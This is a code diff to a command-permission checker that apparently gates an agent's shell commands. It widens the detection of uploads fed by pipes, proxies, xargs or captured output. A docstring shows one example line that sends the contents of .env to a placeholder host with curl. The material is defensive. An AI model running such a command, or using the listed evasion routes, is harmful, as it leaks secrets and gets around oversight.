@@ -27,7 +27,14 @@ from permissions.commands.arithmetic import arithmetic_on_input
 from permissions.commands.git import canonical_branch, names_protected_branch, protected_branch_move
 from permissions.commands.options import canonical_words
 from permissions.commands.privilege import privileged_view
-from permissions.commands.uploads import UPLOAD_VERBS, uploads_past_loopback
+from permissions.commands.uploads import (
+    UPLOAD_VERBS,
+    captures,
+    fed_segments,
+    handed_words,
+    names_a_proxy,
+    uploads_in,
+)
 from permissions.floor import BUILTIN_DENY, FLOOR_VERBS
 from permissions.hooks import PolicyHook, run_hooks
 from permissions.matching import DENY_RANK, CompiledPermissions
@@ -35,7 +42,7 @@ from permissions.messages import sentence
 from permissions.protected_paths import may_write_any, protected_file, protected_writes
 from permissions.scope import Scope, scope_for
 from permissions.segments import SegmentReading, SegmentVerdict, read_segments, views_of
-from permissions.shell import TOO_COMPLEX, ParsedCommand, parse_command
+from permissions.shell import TOO_COMPLEX, ParsedCommand, Segment, parse_command
 from permissions.where import UNKNOWN, floor_where
 
 __all__ = [
@@ -382,7 +389,9 @@ def policy_hooks(st: _State) -> _State:
     if st.terminal and parsed is not None and len(st.seg_views) < len(parsed.segments):
         st.seg_views = [views_of(s.words) for s in parsed.segments]  # skipped in step 4 (doomed)
     if st.terminal:
-        external = _terminal_cap(st.seg_views, parsed, req.project.protected_branches) is not None
+        external = (
+            _terminal_cap(st.seg_views, parsed, req.project.protected_branches, req.command or "") is not None
+        )
     else:
         # an MCP call of a code host's merge, push, PR, branch or deletion tool is one too (issue 29)
         external = req.action_type in ("git_push", "pr_open", "git_merge") or mcp.external_effect(req)
@@ -415,7 +424,7 @@ def caps(st: _State) -> _State:
         if why is not None:
             st.opinion(REQUIRE_APPROVAL, "unparseable", why)
     elif st.terminal:
-        cap = _terminal_cap(st.seg_views, st.parsed, req.project.protected_branches)
+        cap = _terminal_cap(st.seg_views, st.parsed, req.project.protected_branches, req.command or "")
         if cap is not None:
             st.opinion(REQUIRE_APPROVAL, cap[0], cap[1])
     return st
@@ -610,10 +619,26 @@ def _protected_file_write(payload: Mapping[str, Any] | None) -> str | None:
     )
 
 
+def _upload_around(
+    view: tuple[str, ...], seg: Segment, idx: int, around: tuple[bool, dict[int, str], bool]
+) -> bool:
+    """An upload verb's view as its surroundings show it (permissions.commands.uploads.uploads_in): fed by
+    a pipe or a redirection, under a named proxy, handed words by ``xargs`` from a fed input, or given words
+    built from what the command captured (``curl "https://h/$(cat .env)"``)."""
+    proxied, fed_at, captured = around
+    fed = fed_at.get(idx, "")
+    built = captured and bool(seg.dynamic) and max(seg.dynamic) >= len(seg.words) - len(view)
+    if not (proxied or fed or built):
+        return False  # read already, as written, by external_effect_views
+    handed = built or (bool(fed) and handed_words(seg.words, view))
+    return uploads_in(view, fed=fed, proxied=proxied, handed=handed)
+
+
 def _terminal_cap(
     seg_views: list[list[tuple[str, ...]]],
     parsed: ParsedCommand | None,
     protected: Sequence[str] = (),
+    command: str = "",
 ) -> tuple[str, str] | None:
     """§5 step 6 for terminal, before the path scope: external effect, a protected branch moved (R1.5), then
     privileged."""
@@ -621,8 +646,9 @@ def _terminal_cap(
         return None
     segments = parsed.segments
     privileged_at: str | None = None
-    proxied: bool | None = None  # whether the command names a proxy: read once, only if an upload verb is met
-    for seg, vs in zip(segments, seg_views):
+    # whether the command names a proxy, and which segments are fed: read once, only if an upload verb is met
+    around: tuple[bool, dict[int, str], bool] | None = None
+    for idx, (seg, vs) in enumerate(zip(segments, seg_views)):
         if seg.redirects and network_redirect(seg.redirects):
             return "cap_external_effect", seg.text  # issue 11: bash opens a network connection
         for view in vs:
@@ -633,10 +659,10 @@ def _terminal_cap(
                 if external_effect_views((view,)) or external_effect_views(canonical_words(view)):
                     return "cap_external_effect", seg.text  # R4.10: also as its option table reads it
                 if verb in UPLOAD_VERBS:
-                    if proxied is None:
-                        proxied = any("proxy" in s.text.lower() for s in segments)
-                    if proxied and uploads_past_loopback(view):
-                        return "cap_external_effect", seg.text  # a proxy can send "localhost" anywhere
+                    if around is None:
+                        around = names_a_proxy(segments), fed_segments(command, segments), captures(segments)
+                    if _upload_around(view, seg, idx, around):
+                        return "cap_external_effect", seg.text  # what it reads, a proxy, words handed to it
                 if privileged_at is None and privileged_view(view):
                     privileged_at = seg.text
     if protected and any(v and v[0] == "git" for vs in seg_views for v in vs):
